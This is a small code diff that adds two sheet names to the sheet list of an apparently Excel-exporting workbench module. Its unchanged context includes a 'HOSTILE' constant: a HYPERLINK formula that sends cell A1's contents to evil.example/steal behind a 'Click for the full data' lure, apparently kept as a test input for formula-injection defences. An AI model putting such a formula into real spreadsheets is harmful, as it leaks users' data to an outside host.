@@ -13,7 +13,7 @@ from workbench.io.excel_cells import CUT_MARK, EXCEL_TEXT_LIMIT, put
 from workbench.models.evaluate import evaluate
 
 SHEETS = ["Cover", "Key numbers", "Scenarios", "What changed", "Assumptions", "Large loads", "Tariffs", "Grid",
-          "Charts", "Evidence", "Sources"]
+          "Charts", "Reserve option", "Process and legal status", "Evidence", "Sources"]
 HOSTILE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full data")'
 
 
